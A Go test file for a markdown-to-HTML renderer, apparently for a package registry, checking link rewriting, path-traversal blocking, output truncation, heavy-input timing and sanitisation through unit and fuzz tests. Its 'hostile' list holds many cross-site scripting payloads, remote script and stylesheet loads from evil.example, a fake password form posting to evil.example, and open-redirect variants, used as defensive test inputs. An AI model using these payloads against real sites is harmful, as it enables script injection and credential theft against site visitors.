package markup

import (
	"bytes"
	"regexp"
	"strings"
	"testing"
	"time"

	"golang.org/x/net/html"
)

var links = Links{
	File: func(path string) string {
		if path == "missing.md" {
			return ""
		}
		return "/packages/a/1.0.0/files/" + path
	},
	Image: func(path string) string {
		if !strings.HasSuffix(path, ".png") {
			return ""
		}
		return "/packages/a/1.0.0/raw/" + path
	},
}

func TestRender(t *testing.T) {
	for _, tt := range []struct{ name, in, want string }{
		{"a heading", "# Hello World\n\n## Hello World", `<h2 id="readme-hello-world">Hello World</h2>` + "\n" + `<h3 id="readme-hello-world-1">Hello World</h3>` + "\n"},
		{"a link to a heading", "[x](#Hello-World)", `<p><a href="#readme-hello-world">x</a></p>` + "\n"},
		{"a link to another host", "[x](https://a.example/?q=1&r=2 \"t\")", `<p><a title="t" href="https://a.example/?q=1&amp;r=2" rel="nofollow noopener noreferrer ugc">x</a></p>` + "\n"},
		{"a bare URL", "https://a.example", `<p><a href="https://a.example" rel="nofollow noopener noreferrer ugc">https://a.example</a></p>` + "\n"},
		{"a link to a file", "[x](./docs/../docs/a.md#part)", `<p><a href="/packages/a/1.0.0/files/docs/a.md">x</a></p>` + "\n"},
		{"a link from the root", "[x](/src/a.js)", `<p><a href="/packages/a/1.0.0/files/src/a.js">x</a></p>` + "\n"},
		{"a link to no file", "[x](missing.md)", "<p>x</p>\n"},
		{"a link out of the package", "[x](../../etc/passwd)", "<p>x</p>\n"},
		{"a link out of it by escapes", "[x](%2e%2e/%2e%2e/etc/passwd)", "<p>x</p>\n"},
		{"an image of the package", "![alt text](img/a.png)", `<p><img src="/packages/a/1.0.0/raw/img/a.png" alt="alt text" loading="lazy"></p>` + "\n"},
		{"an image of another host", "![alt text](https://a.example/a.png)", `<p><a href="https://a.example/a.png" rel="nofollow noopener noreferrer ugc">alt text</a></p>` + "\n"},
		{"an image of another host without scheme", `<img src="//a.example/a.png">`, `<a href="https://a.example/a.png" rel="nofollow noopener noreferrer ugc">image</a>`},
		{"a badge", "[![build](https://a.example/b.svg)](https://b.example)", `<p><a href="https://b.example" rel="nofollow noopener noreferrer ugc">build</a></p>` + "\n"},
		{"a link that shows nothing", `<a href="https://b.example"></a>`, `<p><a href="https://b.example" rel="nofollow noopener noreferrer ugc">link</a></p>` + "\n"},
		{"an image that is no image", "![x](index.html)", "<p>x</p>\n"},
		{"tasks", "- [x] done\n- [ ] open", "<ul>\n<li>☑  done</li>\n<li>☐  open</li>\n</ul>\n"},
		{"a table", "|a|b|\n|:-|-:|\n|1|2|", "<table tabindex=\"0\">\n<thead>\n<tr>\n<th align=\"left\">a</th>\n<th align=\"right\">b</th>\n</tr>\n</thead>\n<tbody>\n<tr>\n<td align=\"left\">1</td>\n<td align=\"right\">2</td>\n</tr>\n</tbody>\n</table>\n"},
		{"code", "```js\na < b\n```", "<pre tabindex=\"0\"><code>a &lt; b\n</code></pre>\n"},
		{"HTML", `<h1 align="center">A</h1>`, `<h2 align="center">A</h2>`},
		{"HTML that closes the page's", "</div></main></body>x", "x"},
		{"HTML that is never closed", "<div><b>x", "<div><b>x</b></div>"},
		{"details", "<details><summary>More</summary>x</details>", "<details><summary>More</summary>x</details>"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			got, cut := New().Render([]byte(tt.in), links, 1<<20)
			if cut || strings.TrimSpace(string(got)) != strings.TrimSpace(tt.want) {
				t.Errorf("Render(%q) =\n%s\nwant\n%s", tt.in, got, tt.want)
			}
		})
	}
}

// hostile is what has got through sanitisers before, and variations of it.
var hostile = []string{
	`<script>pwned=1</script>`, `<ScRiPt src=//evil.example/x.js></sCrIpT>`, `<scr<script>ipt>pwned=1</scr</script>ipt>`,
	`<img src=x onerror=pwned=1>`, `<img src="x" onerror="pwned=1"//>`, `<IMG """><SCRIPT>pwned=1</SCRIPT>">`, `<img src=javascript:pwned=1>`,
	`<a href="javascript:pwned=1">x</a>`, `<a href="jav&#x09;ascript:pwned=1">x</a>`, `<a href=" &#14; javascript:pwned=1">x</a>`, `<a href="JaVaScRiPt:pwned=1">x</a>`,
	`[x](javascript:pwned=1)`, `[x](JAVASCRIPT&colon;pwned=1)`, `[x](<java	script:pwned=1>)`, `[x](vbscript:pwned)`, `[x](data:text/html;base64,PHNjcmlwdD4=)`,
	`<javascript:pwned=1>`, `![x](javascript:pwned=1)`, `![x](data:image/svg+xml,<svg onload=pwned=1>)`, `[x]: javascript:pwned=1` + "\n\n[x]",
	`<svg onload=pwned=1>`, `<svg><script>pwned=1</script></svg>`, `<svg><style><img src=x onerror=pwned=1></style></svg>`, `<svg><a xlink:href="javascript:pwned=1"><text>x</text></a></svg>`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=pwned=1&gt;">`,
	`<form><math><mtext></form><form><mglyph><style></math><img src onerror=pwned=1>`,
	`<iframe src="javascript:pwned=1"></iframe>`, `<iframe srcdoc="<script>pwned=1</script>">`, `<object data="javascript:pwned=1">`, `<embed src=//evil.example/x.swf>`,
	`<style>@import url(//evil.example/x.css)</style>`, `<link rel=stylesheet href=//evil.example/x.css>`, `<meta http-equiv=refresh content="0;url=//evil.example">`, `<base href=//evil.example/>`,
	`<div style="background:url(//evil.example/x)">x</div>`, `<p class="note bad" id="main">x</p>`, `<h1 id="main" name="body">x</h1>`, `<a name="main" id="main">x</a>`,
	`<form action=//evil.example><input name=password><button>Sign in</button></form>`, `<input type=image src=x onerror=pwned=1>`, `<button formaction=javascript:pwned=1>x</button>`,
	`<video src=x onerror=pwned=1><source onerror=pwned=1></video>`, `<audio src=//evil.example/a>`, `<picture><source srcset="//evil.example/x"><img src="//evil.example/y"></picture>`, `<img srcset="//evil.example/x 1x" src=a.png>`,
	`<noscript><p title="</noscript><img src=x onerror=pwned=1>">`, `<textarea><img title="</textarea><img src onerror=pwned=1>">`, `<title><img title="</title><img src onerror=pwned=1>">`, `<xmp><p title="</xmp><img src=x onerror=pwned=1>">`,
	`<template><script>pwned=1</script></template>`, `<plaintext><script>pwned=1</script>`, `<details open ontoggle=pwned=1><summary>x</summary></details>`, `<table background=//evil.example/x><td background=//evil.example/y>`,
	`<!--><img src=x onerror=pwned=1>-->`, `<![CDATA[<img src=x onerror=pwned=1>]]>`, `<?xml version="1.0"?><img src=x onerror=pwned=1>`, `<a href="//evil.example/&quot;onmouseover=&quot;pwned=1">x</a>`,
	"<a href=\"x\" title='\"><script>pwned=1</script>'>x</a>", "`<script>pwned=1</script>`", "\x00<\x00script>pwned=1</script>", "<img\x0csrc=x\x0conerror=pwned=1>", "# <img src=x onerror=pwned=1>", "|<img src=x onerror=pwned=1>|\n|-|\n",
	`<a href="https://a.example" rel="opener" target="_blank" ping="//evil.example">x</a>`, `</div></main><h1>Sign in again</h1>`, `[a](https://a.example" onmouseover="pwned=1)`, `<abbr title="</abbr><script>pwned=1</script>">x</abbr>`,
	"[x](\\\\evil.example/x)", "[x](/\\evil.example)", "[x](////evil.example)", "![x](/\\evil.example/x.png)", "![x](////evil.example/x.png)", "[x](https:evil.example)", "[x](?next=//evil.example)",
}

var safeElements = regexp.MustCompile(`^(h[2-6]|p|br|hr|blockquote|[uod]l|li|d[td]|strong|b|em|i|del|ins|s|code|pre|kbd|samp|var|sub|sup|mark|q|cite|abbr|small|table|t(head|body|foot|r|h|d)|caption|details|summary|div|span|fig(ure|caption)|a|img)$`)

var safeAttributes = map[string]*regexp.Regexp{
	"id":    regexp.MustCompile(`^readme-`),
	"href":  regexp.MustCompile(`^(https?://[^\s]|mailto:|#readme-|/packages/a/1\.0\.0/files/[^/])`),
	"src":   regexp.MustCompile(`^/packages/a/1\.0\.0/raw/[^/]`),
	"rel":   regexp.MustCompile(`^nofollow noopener noreferrer ugc$`),
	"align": regexp.MustCompile(`^(left|right|center)$`), "tabindex": regexp.MustCompile(`^0$`), "loading": regexp.MustCompile(`^lazy$`),
	"start": regexp.MustCompile(`^\d+$`), "colspan": regexp.MustCompile(`^\d+$`), "rowspan": regexp.MustCompile(`^\d+$`), "width": regexp.MustCompile(`^\d+%?$`), "height": regexp.MustCompile(`^\d+%?$`),
	"open": regexp.MustCompile(`^(open)?$`), "title": regexp.MustCompile(``), "alt": regexp.MustCompile(``),
}

// checkSafe reads HTML as a browser would, inside a page, and looks at all that is there.
func checkSafe(t *testing.T, source, out string) {
	t.Helper()
	page := "<body><main><div>" + out + "</div><i class=\"end\"></i></main></body>"
	tree, err := html.Parse(strings.NewReader(page))
	if err != nil {
		t.Fatal(err)
	}
	foundEnd := false
	for n := range tree.Descendants() {
		if n.Type != html.ElementNode || n.Data == "html" || n.Data == "head" || n.Data == "body" || n.Data == "main" {
			continue
		}
		if len(n.Attr) > 0 && n.Attr[0] == (html.Attribute{Key: "class", Val: "end"}) {
			foundEnd = n.Parent.Data == "main"
			continue
		}
		if !safeElements.MatchString(n.Data) || n.Namespace != "" {
			t.Errorf("%q leaves the element %q: %s", source, n.Data, out)
		}
		foreign := false
		for _, a := range n.Attr {
			rule := safeAttributes[a.Key]
			if rule == nil || !rule.MatchString(a.Val) {
				t.Errorf("%q leaves the attribute %s=%q: %s", source, a.Key, a.Val, out)
			}
			foreign = foreign || a.Key == "href" && strings.HasPrefix(a.Val, "http")
		}
		if foreign && !strings.Contains(string(out), `rel="nofollow noopener noreferrer ugc"`) {
			t.Errorf("%q leaves a link to another host without rel: %s", source, out)
		}
	}
	if !foundEnd {
		t.Errorf("%q breaks out of its place: %s", source, out)
	}
}

func TestHostile(t *testing.T) {
	r := New()
	for _, source := range append(hostile, strings.Join(hostile, "\n\n"), strings.Join(hostile, "")) {
		out, _ := r.Render([]byte(source), links, 1<<20)
		checkSafe(t, source, string(out))
	}
}

// What takes other parsers very long, or nests without end, is done in a moment: in far less than the half minute that
// a busy machine may take for it with the race detector.
func TestHeavy(t *testing.T) {
	r, size := New(), 12<<10
	for _, part := range []string{
		">", "> ", "- ", "* a ", "1. ", "[", "![", "[a](", "**a ", "*a_ ", "`", "` a``", "<", "<a ", "<div>", "<b>", "<!--", "\\", "&", "a@a.", "www.", "|", "|a|\n|-|\n", "# a\n", "~~", "[a]: b\n", "![a][", "<details>", "<table><td>",
		"<a href=x>", "\n>", "  \n", "\t", "http://a.", "_", "***", "[a]", "\n- a\n  > b",
	} {
		source := strings.Repeat(part, size/len(part))
		begin := time.Now()
		out, _ := r.Render([]byte(source), links, size)
		if took := time.Since(begin); took > 30*time.Second {
			t.Errorf("%q again and again takes %s", part, took)
		}
		if len(out) > size {
			t.Errorf("%q again and again gives %d bytes", part, len(out))
		}
		checkSafe(t, part, string(out))
	}
}

func TestCut(t *testing.T) {
	out, cut := New().Render([]byte(strings.Repeat("A line of *text*.\n\n", 20_000)), links, 10<<10)
	if !cut || len(out) > 10<<10 || len(out) < 2<<10 || !strings.HasSuffix(strings.TrimSpace(string(out)), "</p>") {
		t.Errorf("cut %v, %d bytes, …%s", cut, len(out), out[max(0, len(out)-40):])
	}
	plain, cut := Plain(bytes.Repeat([]byte("<&>\n"), 20_000), 10<<10)
	if !cut || len(plain) > 10<<10 || !strings.HasSuffix(string(plain), "</pre>") {
		t.Errorf("plain: cut %v, %d bytes", cut, len(plain))
	}
	checkSafe(t, "plain", string(plain))
}

func FuzzRender(f *testing.F) {
	for _, source := range hostile {
		f.Add(source)
	}
	r := New()
	f.Fuzz(func(t *testing.T, source string) {
		out, _ := r.Render([]byte(source), links, 64<<10)
		checkSafe(t, source, string(out))
	})
}
